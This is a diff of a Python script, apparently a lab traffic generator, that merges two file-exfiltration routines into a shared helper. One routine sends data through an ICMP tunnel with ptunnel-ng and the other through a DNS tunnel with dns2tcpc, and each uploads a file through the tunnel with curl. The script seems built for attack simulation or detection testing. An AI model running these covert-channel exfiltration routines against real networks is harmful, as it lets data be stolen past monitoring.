@@ -650,13 +650,12 @@ def dhcp_starve(args) -> int:
     return 0
 
 
-def ptunnel_exfil(args) -> int:
-    """An ICMP tunnel with ptunnel-ng: the client forwards a local port through echo requests to the
-    proxy, and ``curl`` uploads a file through it."""
-    tun = subprocess.Popen(["ptunnel-ng", f"-p{args.proxy}", f"-l{args.local_port}", f"-r{args.dest}",
-                            f"-R{args.dest_port}", "-v", "1"])
+def _upload_through_tunnel(tunnel: list[str], settle: float, args) -> int:
+    """Start a tunnel client that forwards ``args.local_port``, let it settle, upload ``args.file`` through
+    it with ``curl`` (bounded by ``args.max_seconds``), then stop the tunnel."""
+    tun = subprocess.Popen(tunnel)
     try:
-        time.sleep(1.0)
+        time.sleep(settle)
         subprocess.run(["curl", "-s", "-o", "/dev/null", "-m", str(args.max_seconds), "--data-binary", f"@{args.file}",
                         f"http://127.0.0.1:{args.local_port}/upload"], timeout=args.max_seconds + 5)
     finally:
@@ -666,24 +665,20 @@ def ptunnel_exfil(args) -> int:
         except subprocess.TimeoutExpired:
             tun.kill()
     return 0
+
+
+def ptunnel_exfil(args) -> int:
+    """An ICMP tunnel with ptunnel-ng: the client forwards a local port through echo requests to the
+    proxy, and ``curl`` uploads a file through it."""
+    return _upload_through_tunnel(["ptunnel-ng", f"-p{args.proxy}", f"-l{args.local_port}", f"-r{args.dest}",
+                                   f"-R{args.dest_port}", "-v", "1"], 1.0, args)
 
 
 def dns2tcp_exfil(args) -> int:
     """A TCP-over-DNS tunnel with dns2tcpc through the lab resolver: a local port forwards to the
     server's resource, and ``curl`` uploads a file through it."""
-    tun = subprocess.Popen(["dns2tcpc", "-z", args.zone, "-k", args.key, "-r", args.resource, "-l", str(args.local_port),
-                            "-T", args.qtype, args.resolver])
-    try:
-        time.sleep(1.5)
-        subprocess.run(["curl", "-s", "-o", "/dev/null", "-m", str(args.max_seconds), "--data-binary", f"@{args.file}",
-                        f"http://127.0.0.1:{args.local_port}/upload"], timeout=args.max_seconds + 5)
-    finally:
-        tun.terminate()
-        try:
-            tun.wait(timeout=3)
-        except subprocess.TimeoutExpired:
-            tun.kill()
-    return 0
+    return _upload_through_tunnel(["dns2tcpc", "-z", args.zone, "-k", args.key, "-r", args.resource, "-l",
+                                   str(args.local_port), "-T", args.qtype, args.resolver], 1.5, args)
 
 
 def pair(args) -> int:
